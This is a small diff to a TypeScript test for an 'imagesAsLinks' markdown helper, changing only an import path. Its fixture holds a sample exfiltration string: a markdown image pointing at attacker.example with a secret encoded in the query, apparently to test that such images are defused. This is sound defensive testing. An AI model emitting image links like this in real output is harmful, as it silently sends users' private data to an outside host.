@@ -1,7 +1,7 @@
 import { strict as assert } from 'node:assert';
 import { describe, it } from 'node:test';
 import MarkdownIt from 'markdown-it';
-import { ImageLinks, imagesAsLinks } from '../../src/shared/imageLinks';
+import { ImageLinks, imagesAsLinks } from '../../../src/shared/imageLinks';
 
 const md = new MarkdownIt();
 const leak = '![도표](https://attacker.example/p.png?c=const%20secret%3D1)';
